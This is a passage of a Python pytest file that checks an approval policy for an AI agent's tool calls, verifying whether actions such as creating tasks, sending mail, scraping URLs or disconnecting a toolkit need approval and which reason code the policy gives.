        (ApprovalPolicy(), TASK, {"name": "x", "assignee": MAIL}, False, Reason.EFFECT),
        (ApprovalPolicy(), STATUS, {"heading": "x"}, False, Reason.UNKNOWN),
        (ApprovalPolicy(), MAILING, {"to": MAIL}, True, Reason.EFFECT_OUTSIDE),
        (ApprovalPolicy(), TASK, {"name": "x"}, True, Reason.OUTSIDE),
        (ApprovalPolicy(), SCRAPING, {"url": "https://example.org"}, True, Reason.OUTSIDE),
        (ApprovalPolicy(["ASANA_*"]), TASK, {"name": "x"}, False, Reason.OPERATOR),
        (ApprovalPolicy(mode=Approve.WRITES), TASK, {"name": "x"}, False, Reason.OPERATOR),
        (ApprovalPolicy(mode=Approve.ALL), SCRAPING, {"url": "x"}, False, Reason.OPERATOR),
        (ApprovalPolicy(mode=Approve.DESTRUCTIVE), MAILING, {"to": MAIL}, False, Reason.EFFECT),
        (ApprovalPolicy(), DisconnectTool(cast("Any", None)), {"toolkit": "asana"}, False, Reason.EFFECT),
    ],
)
def test_a_question_has_a_reason(
    policy: ApprovalPolicy, each: Tool, arguments: dict[str, Any], tainted: bool, reason: Reason
) -> None:
    assert policy(each, arguments, tainted=tainted)
    assert policy.reason(each, arguments, tainted=tainted) is reason
